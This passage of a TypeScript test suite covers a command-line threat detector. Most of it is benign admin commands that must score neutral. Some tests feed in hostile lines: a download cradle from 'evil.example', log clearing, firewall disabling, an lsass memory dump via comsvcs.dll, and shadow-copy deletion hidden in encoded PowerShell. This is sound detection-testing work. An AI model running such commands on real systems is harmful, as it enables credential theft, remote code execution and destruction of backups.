    "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {c82192ee}",
    "regsvr32 /s C:\\Windows\\System32\\vbscript.dll",
    "mshta.exe C:\\Program Files\\Vendor\\help.hta",
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "reg save HKCU\\Software backup.hiv",
    "reg export HKLM\\SOFTWARE\\Contoso contoso.reg /y",
    "reg add HKLM\\SOFTWARE\\Policies\\Contoso /v Proxy /t REG_SZ /d http://proxy.contoso.example:8080 /f",
    "schtasks /run /tn \\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
    'schtasks /create /tn Backup /sc daily /tr "C:\\Program Files\\Contoso\\backup.exe"',
    "C:\\Program Files\\Internet Explorer\\iexplore.exe https://intranet.contoso.example",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en https://mail.contoso.example',
    '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\130.0\\updater.exe" --wake --system',
    '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler',
    '"C:\\Program Files\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe" /DeferredLaunch',
    "C:\\Windows\\System32\\usoclient.exe StartScan",
    '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
    'powershell.exe -NoProfile -WindowStyle Hidden -File "C:\\Program Files\\Vendor\\Update\\check.ps1"',
    '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE" -i MSSQLSERVER',
    'sqlcmd -S srv-db-01 -d Sales -Q "EXEC dbo.Rebuild" -b',
    '"C:\\Program Files\\Microsoft SQL Server\\160\\DTS\\Binn\\DTExec.exe" /ISSERVER "\\SSISDB\\Nightly"',
    "robocopy D:\\Data \\\\nas\\backup /MIR /R:1 /W:1 /LOG:C:\\Logs\\copy.txt",
    "rsync -av --delete /srv/ backup@nas.contoso.example:/srv/",
    "restic -r sftp:nas:/backup backup /home",
    "tar czf /tmp/logs.tgz /var/log",
    "systemctl restart nginx",
    "apt-get update && apt-get upgrade -y",
    "ssh admin@srv-01.contoso.example 'uptime'",
    "openssl x509 -in cert.pem -noout -text",
    "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d",
    "esentutl /g C:\\Windows\\NTDS\\ntds.dit",
    "procdump64.exe -ma w3wp.exe C:\\Dumps",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe C:\\Services\\Contoso.Service.exe",
    '"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe" Contoso.sln /m',
    "wmic bios get serialnumber",
    "wmic os get caption /format:list",
    "bitsadmin /list /allusers",
    "cmd.exe /c echo 100%% done %DATE% %USERNAME%",
    "osascript -e 'display notification \"Backup done\"'",
    "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoRebootWithLoggedOnUsers /t REG_DWORD /d 1 /f",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 1 /f",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\CI\\Config /v VulnerableDriverBlocklistEnable /t REG_DWORD /d 1 /f",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\DeviceGuard /v EnableVirtualizationBasedSecurity /t REG_DWORD /d 1 /f",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 5 /f",
    "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f",
    "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging /v EnableScriptBlockLogging /t REG_DWORD /d 1 /f",
    'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections',
    "reg delete HKCU\\Software\\Contoso\\Old /f",
    "powershell Set-ItemProperty HKLM:\\SOFTWARE\\Contoso -Name Mode -Value 0",
    "powershell New-ItemProperty -Path HKLM:\\SOFTWARE\\Contoso -Name Server -Value srv-app-01 -PropertyType String",
    "sc.exe config spooler start= disabled",
    "sc query type= service state= all",
    "sc stop wuauserv",
    'sc create ContosoAgent binPath= "C:\\Program Files\\Contoso\\agent.exe" start= auto',
    "sc failure ContosoAgent reset= 86400 actions= restart/60000",
    "powershell Set-Service -Name wuauserv -StartupType Automatic",
    "powershell Stop-Service -Name W3SVC",
    "net stop MSSQLSERVER /y",
    "net start w32time",
    "schtasks /query /fo LIST /v",
    'schtasks /change /tn "Contoso Inventory" /disable',
    'schtasks /create /tn "Contoso Inventory" /sc daily /st 03:00 /tr "powershell.exe -File C:\\Scripts\\inventory.ps1"',
    'schtasks /delete /tn "Contoso Inventory" /f',
    'net group "Sales" /domain',
    "net user mia /domain",
    "net localgroup administrators",
    'net localgroup "Remote Desktop Users" contoso\\mia /add',
    "net use Z: \\\\srv-file-01\\c$ /persistent:no",
    "nltest /sc_verify:contoso.example",
    "dsquery user -name mia*",
    "powershell Get-ADGroupMember -Identity Sales",
    "powershell Get-ADUser -Filter * -Properties LastLogonDate",
    "curl -L -o build/tool.tar.gz https://downloads.contoso.example/tool.tar.gz",
    "curl -sS -o C:\\Build\\deps\\sdk.zip https://artifacts.contoso.example/sdk.zip",
    "curl -k https://10.0.0.5:8443/health",
    "curl -o /dev/null -s -w %{http_code} http://203.0.113.5/health",
    "curl -s https://api.contoso.example/v1/items | python3 -m json.tool",
    'curl -s https://api.contoso.example/v1/items | node -e "process.stdin.pipe(process.stdout)"',
    "curl -s https://api.contoso.example/v1/items | jq .",
    "curl -o D:\\Images\\boot.iso http://10.0.0.7/boot.iso",
    "wget -q --spider http://203.0.113.5/",
    "rclone sync D:\\Data company-s3:backup --transfers 8 --log-file C:\\Logs\\rclone.log",
    "rclone copy /srv/data onedrive:archive --max-age 24h",
    "7z a D:\\Backup\\logs.7z C:\\Logs",
    "7z a -pSecret D:\\Backup\\hr.7z D:\\HR",
    "ssh -R 8080:localhost:3000 dev@build.contoso.example",
    "ssh -L 5432:localhost:5432 dev@build.contoso.example",
    'ssh -o ProxyCommand="ssh -W %h:%p jump" admin@srv-01',
    "plink -ssh admin@switch-01 show version",
    "netsh interface portproxy add v4tov4 listenport=3000 connectport=3000 connectaddress=172.20.1.4",
    "netsh interface portproxy show all",
    "netsh wlan show profile name=Guest key=clear",
    "ngrok http 3000",
    "cloudflared tunnel run intranet",
    "fltmc instances",
    "logman query -ets",
    'logman create counter perf -c "\\Processor(_Total)\\% Processor Time"',
    "wevtutil qe Security /c:5 /f:text",
    "wevtutil sl Security /ms:1073741824",
    'auditpol /set /subcategory:"Logon" /success:enable /failure:enable',
    "auditpol /get /category:*",
    "reagentc /info",
    "vssadmin list shadowstorage",
    "wbadmin enable backup -addtarget:E: -schedule:21:00",
    'bcdedit /set {current} description "Windows 11"',
    "findstr /i error C:\\Logs\\app.log",
    "dir /s /b C:\\Projects\\*.csproj",
    "certutil -syncWithWU \\\\srv-file-01\\rootcerts",
    "certutil -addstore root C:\\Certs\\contoso-root.cer",
    "certutil -encode C:\\Certs\\a.cer C:\\Certs\\a.pem",
    'forfiles /p C:\\Logs /s /m *.log /d -30 /c "cmd /c del @path"',
    "pcalua.exe -a C:\\Users\\mia\\Downloads\\setup.exe -d C:\\Users\\mia\\Downloads",
    'odbcconf /a {CONFIGSYSDSN "SQL Server" "DSN=Sales|Server=srv-db-01"}',
    "msdt.exe /id NetworkDiagnosticsWeb",
    "rundll32.exe C:\\Windows\\System32\\shell32.dll,#61",
    "rundll32.exe url.dll,FileProtocolHandler https://intranet.contoso.example",
    "rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\\Drivers\\printer.inf",
    'regsvr32 /s "C:\\Program Files\\Contoso\\shell.dll"',
    "C:\\Windows\\System32\\cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
    "wscript.exe \\\\contoso.example\\NETLOGON\\logon.vbs",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    "conhost.exe --headless --width 80 --height 30 --signal 0x3e4 --server 0x3d8",
    "chrome.exe --headless --print-to-pdf=report.pdf https://reports.contoso.example/weekly",
    'chrome.exe --enable-automation --load-extension="C:\\Users\\mia\\AppData\\Local\\Temp\\scoped_dir1\\internal"',
    "wmic product get name,version",
    "wmic logicaldisk get caption,freespace",
    "wmic service where name='spooler' call startservice",
    "powershell Get-WinEvent -LogName System -MaxEvents 20",
    "powershell Get-Process | Sort-Object CPU -Descending",
    'powershell.exe -NoProfile -Command "Start-Process notepad -WindowStyle Hidden"',
    "powershell -Version 5.1 -File C:\\Scripts\\a.ps1",
    "powershell Export-PfxCertificate -Cert Cert:\\LocalMachine\\My\\AB -FilePath D:\\Certs\\web.pfx",
    "mofcomp C:\\Windows\\System32\\wbem\\cimwin32.mof",
    "icacls D:\\Shares\\Sales /grant contoso\\sales:(OI)(CI)M /T",
    "icacls C:\\inetpub\\wwwroot /grant IIS_IUSRS:(OI)(CI)RX",
    "attrib +r C:\\Contoso\\config.xml",
    "xcopy C:\\Build\\out D:\\Release /E /I /Y",
    "copy setup.log \\\\srv-file-01\\logs\\",
    "tar -xf /tmp/release.tgz -C /opt/app",
    "chmod +x /usr/local/bin/backup.sh",
    "usermod -aG docker mia",
    "sudo systemctl stop nginx",
    "docker run --rm -v /srv/data:/data alpine ls /data",
    "find / -name core -mtime +7",
    "kubectl create secret generic db --from-literal=password=x",
    "python3 manage.py runserver 0.0.0.0:8000",
    "C:\\Users\\mia\\AppData\\Local\\Discord\\Update.exe --update=https://updates.discord.example",
    '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe" -remediationScript C:\\Windows\\IMECache\\a.ps1',
    "C:\\Windows\\System32\\gpscript.exe /Logon",
    "runonce.exe /AlternateShellStartup",
    "C:\\Windows\\explorer.exe /e,/root,D:\\Data",
    "cmd.exe /c timeout /t 5 & del C:\\Logs\\old.log",
  ])("%s", (line) => {
    expect(judgeCommandLine(line, NOW)).toMatchObject([{ label: "neutral", weight: 0 }]);
  });
});

test("two rules about the same download are told together and stay below Malicious by themselves", () => {
  const seen = judgeCommandLine("curl -s https://203.0.113.9/a.dll -o C:\\Users\\Public\\a.dll", NOW);
  expect(seen.length).toBeGreaterThan(1);
  expect(judge({ observations: seen, sourceFamilies: new Set(), trusted: true, now: NOW }).verdict).toBe("suspicious");
});

test("every rule says where it comes from, and none shares a name", () => {
  for (const { technique, source, does } of COMMAND_LINE_RULES) {
    expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(source).toMatch(/^https:\/\/(attack\.mitre\.org|lolbas-project\.github\.io)\/.+\/$/);
    expect(does).not.toMatch(/\.$|^The /);
  }
  expect(new Set(COMMAND_LINE_RULES.map(({ name }) => name)).size).toBe(COMMAND_LINE_RULES.length);
});

test("many weak signs in one line stay Suspicious", () => {
  const line =
    "powershell -nop -w hidden iwr http://evil.example/a -OutFile a; certutil -decode a b; wevtutil cl Security; netsh advfirewall set allprofiles state off; net localgroup administrators x /add";
  const seen = judgeCommandLine(line, NOW);
  expect(seen.length).toBeGreaterThan(5);
  expect(judge({ observations: seen, sourceFamilies: new Set(), trusted: true, now: NOW }).verdict).toBe("suspicious");
});

test("a known installer spares its own text only", () => {
  const install = "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))";
  expect(rules(`powershell ${install}`)).toEqual([undefined]);
  expect(rules(`powershell ${install}; ${cradle}`)).toContain("download-cradle");
  expect(rules("powershell iex (iwr evil.example/a) # https://community.chocolatey.org/install.ps1")).toContain("download-cradle");
});

test("what a real intrusion wrote turns a source's Suspicious into Malicious", () => {
  const source = {
    analyzer: "source",
    source: "alert:edr",
    family: "edr",
    label: "suspicious",
    weight: WEIGHTS.sourceSuspicious,
    text: "",
    at: NOW,
  } as const;
  const weigh = (line?: string) =>
    judge({
      observations: [source, ...(line ? judgeCommandLine(line, NOW) : [])],
      sourceFamilies: new Set(["edr"]),
      trusted: true,
      now: NOW,
    }).verdict;
  expect(weigh()).toBe("suspicious");
  expect(weigh("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full")).toBe("malicious");
  expect(weigh(ansible)).toBe("suspicious");
});

describe("encoded PowerShell", () => {
  test.each(["-e", "-ec", "-enc", "-EncodedCommand", "/e", "\u2013enc", "-e^n^c"])("is decoded under %s", (flag) => {
    expect(rules(`powershell.exe -nop ${flag} ${encode(cradle)}`)).toEqual(
      expect.arrayContaining(["download-cradle", "encoded-powershell"]),
    );
  });
  test("inside another one", () => {
    const inner = `powershell -enc ${encode("vssadmin delete shadows /all")}`;
    expect(rules(`powershell -enc ${encode(inner)}`)).toContain("shadow-copy-deletion");
  });
  test("harmless inside is told and accuses nobody; hidden twice is a weak sign", () => {
    const inner = encode("Get-Service | Out-File services.txt");
    expect(judgeCommandLine(`powershell -enc ${inner}`, NOW)).toMatchObject([{ label: "neutral", weight: 0, technique: "T1027.010" }]);
    expect(judgeCommandLine(`powershell -enc ${encode(`powershell -enc ${inner}`)}`, NOW)).toMatchObject([
      { label: "suspicious", weight: WEIGHTS.ruleWeak, technique: "T1027.010" },
    ]);
  });
  test("an execution policy is not an encoded command", () => {
    expect(rules("powershell -ex bypass -ep unrestricted")).toEqual([undefined]);
  });
  test("a rule votes once, inside and outside together", () => {
    const hits = rules(`powershell ${cradle}; powershell -enc ${encode(cradle)}`);
    expect(hits.filter((rule) => rule === "download-cradle")).toHaveLength(1);
  });
});

test("any text is judged, none throws", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300, unit: "binary" }), (line) => {
      expect(judgeCommandLine(line, NOW).length).toBeGreaterThan(0);
      judgeCommandLine(`powershell -enc ${line}`, NOW);
    }),
  );
});

test("hostile lines of the largest size come back: a backtracking pattern would run into the test's time-out", () => {
  const parts = [
    "iex",
    "lsass -",
    "powershell -e ",
    "vssadmin delete ",
    "\"^'",
    "AAAA",
    "%",
    "!a!",
    "set a=b&",
    "' + '",
    "|",
    "[char]",
    "base64 -d ",
    "\\\\1.1.1.1",
    "http://1.1.1.1 curl -o ",
    "net user a b ",
    ".pdf          ",
    "rundll32 \\a,# ",
    "echo > a",
    "reg add /d 0 ",
    "impacket-",
    "-r a:",
    "abcdefghij234567",
    " start /b ",
  ];
  for (const part of parts) expect(judgeCommandLine(part.repeat(32_768), NOW).length).toBeGreaterThan(0);
  const pieces = fc.constantFrom(
    ...parts,
    "frombase64string(",
    "curl http://",
    "%comspec:~",
    "nc -e ",
    "a",
    " ",
    "\t",
    "\u00a0",
    "\u{10ffff}",
  );
  fc.assert(
    fc.property(fc.array(pieces, { minLength: 1, maxLength: 5 }), fc.integer({ min: 1, max: 8000 }), (some, times) => {
      expect(judgeCommandLine(some.join("").repeat(times).slice(0, 70_000), NOW).length).toBeGreaterThan(0);
    }),
    { numRuns: 40 },
  );
});

test("a process without a command line is not asked about", () => {
  const context = lookContext();
  expect(commandLine.looks({ kind: "process", name: "a.exe" }, NOTHING, context)).toEqual([]);
  expect(commandLine.looks({ kind: "process", commandLine: "a.exe" }, NOTHING, context)).toMatchObject([{ key: "command-line/air" }]);
});
